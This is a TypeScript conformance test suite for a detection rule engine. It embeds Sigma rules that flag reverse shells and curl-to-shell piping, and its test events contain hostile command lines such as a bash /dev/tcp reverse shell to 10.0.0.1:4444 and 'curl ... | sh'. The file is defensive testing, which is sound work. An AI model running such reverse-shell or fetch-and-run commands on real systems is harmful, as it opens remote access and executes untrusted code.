// The shared conformance suite every RuleEngine implementation runs (indexed.test.ts, naive.test.ts).
// It states the engine contract: routing by category, suppression, the onMatch hook, detection contents and order.

import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from 'node:test';
import { seededRandom } from '@vigil/common';
import type { CompiledRule, DetectEvent } from '../core.js';
import { defaultSigmaMapping } from '../mapping/index.js';
import { loadSigmaRules } from '../sigma/load.js';
import type { RuleEngine, RuleEngineOptions } from './rule-engine.js';

export interface EngineConformanceOptions {
  name: string;
  create: (options: RuleEngineOptions) => RuleEngine;
}

const RULES = `title: Reverse shell
id: 11111111-1111-4111-8111-111111111111
name: reverse_shell
level: high
tags: [attack.execution]
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains: /dev/tcp/
  condition: selection
---
title: Curl to shell
id: 22222222-2222-4222-8222-222222222222
level: medium
logsource: { product: linux, category: process_creation }
detection:
  download:
    Image|endswith: [/curl, /wget]
  pipe:
    CommandLine|contains: '| sh'
  condition: download and pipe
---
title: Not a shell
id: 33333333-3333-4333-8333-333333333333
level: low
logsource: { product: linux, category: process_creation }
detection:
  shells:
    Image|endswith: [/bash, /sh, /dash, /curl, /wget, /ls]
  condition: not shells
---
title: Failed login
id: 44444444-4444-4444-8444-444444444444
level: low
logsource: { product: linux, category: authentication }
detection:
  selection:
    event.action: logon_failed
  condition: selection
`;

function rules(): CompiledRule[] {
  const mapping = defaultSigmaMapping();
  const set = loadSigmaRules([{ file: 'conformance.yml', text: RULES }], { resolver: mapping.resolver, router: mapping.router });
  assert.deepEqual(set.problems.filter((p) => p.severity === 'error'), []);
  return set.rules;
}

function processStart(executable: string, commandLine: string, pid = 100): DetectEvent {
  return {
    '@timestamp': '2026-12-04T10:00:00.000Z', 'event.id': randomUUID(), 'event.sequence': 1, 'event.category': 'process', 'event.action': 'start', 'host.id': 'h1',
    'process.pid': pid, 'process.executable': executable, 'process.command_line': commandLine, 'process.args': commandLine.split(' '),
  };
}

export function runEngineConformance(options: EngineConformanceOptions): void {
  describe(`RuleEngine conformance: ${options.name}`, () => {
    test('detections carry rule, host, event id, time, fields and the acting process', () => {
      const engine = options.create({ rules: rules() });
      const event = processStart('/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 4242);
      const [detection, ...rest] = engine.evaluate([event]);
      assert.equal(rest.length, 0);
      assert.equal(detection!.rule.id, '11111111-1111-4111-8111-111111111111');
      assert.deepEqual(detection!.rule.tags, ['attack.execution']);
      assert.equal(detection!.hostId, 'h1');
      assert.deepEqual(detection!.eventIds, [event['event.id']]);
      assert.equal(detection!.time, '2026-12-04T10:00:00.000Z');
      assert.equal(detection!.processKey, '4242');
      assert.ok(detection!.fields.some((hit) => hit.field === 'CommandLine'));
    });

    test('rules see only the categories of their logsource; not-only rules are still evaluated', () => {
      const engine = options.create({ rules: rules() });
      const login = { '@timestamp': '2026-12-04T10:00:00.000Z', 'event.id': randomUUID(), 'event.sequence': 2, 'event.category': 'authentication', 'event.action': 'logon_failed', 'host.id': 'h1' };
      const found = engine.evaluate([processStart('/usr/bin/python3', 'python3 x.py'), login]).map((d) => d.rule.id);
      assert.deepEqual(found, ['33333333-3333-4333-8333-333333333333', '44444444-4444-4444-8444-444444444444']);
      const exit = { ...processStart('/usr/bin/python3', 'python3 x.py'), 'event.action': 'exit' };
      assert.deepEqual(engine.evaluate([exit]), [], 'process_creation covers process starts only');
      const windows = { ...processStart('C:\\Windows\\System32\\bash.exe', 'bash -i >& /dev/tcp/10.0.0.1/4444'), 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational' };
      assert.deepEqual(engine.evaluate([windows]), [], 'Linux logsources never see Windows events');
    });

    test('an AND of two literal sets needs both; events in one call keep their order', () => {
      const engine = options.create({ rules: rules() });
      const events = [processStart('/usr/bin/curl', 'curl http://x/a.sh'), processStart('/usr/bin/ls', 'ls | sh'), processStart('/usr/bin/curl', 'curl http://x/a.sh | sh')];
      const found = engine.evaluate(events).map((d) => [d.eventIds[0], d.rule.id]);
      assert.deepEqual(found, [[events[2]!['event.id'], '22222222-2222-4222-8222-222222222222']]);
    });

    test('suppressed rules report nothing but still reach onMatch', () => {
      const seen: string[] = [];
      const engine = options.create({ rules: rules(), suppressed: new Set(['11111111-1111-4111-8111-111111111111']), onMatch: (rule) => seen.push(rule.id) });
      assert.deepEqual(engine.evaluate([processStart('/usr/bin/bash', 'bash -c "cat </dev/tcp/1.2.3.4/80"')]), []);
      assert.deepEqual(seen, ['11111111-1111-4111-8111-111111111111']);
    });

    test('random events: the engine never throws and agrees with a direct evaluation of every rule (seeded)', () => {
      const compiled = rules();
      const engine = options.create({ rules: compiled });
      const random = seededRandom(5);
      const pieces = ['bash', '-i', '/dev/tcp/', '| sh', 'curl', 'wget', '/usr/bin/', '>&', 'x', 'é', ''];
      const pick = () => pieces[Math.floor(random() * pieces.length)]!;
      for (let n = 0; n < 2000; n++) {
        const event = processStart(`/usr/bin/${pick()}${pick()}`, Array.from({ length: 6 }, pick).join(random() < 0.5 ? ' ' : ''));
        const expected = compiled.filter((rule) => rule.route?.categories?.includes('process') && rule.match(event)).map((rule) => rule.rule.id);
        assert.deepEqual(engine.evaluate([event]).map((d) => d.rule.id), expected, JSON.stringify(event));
      }
    });
  });
}
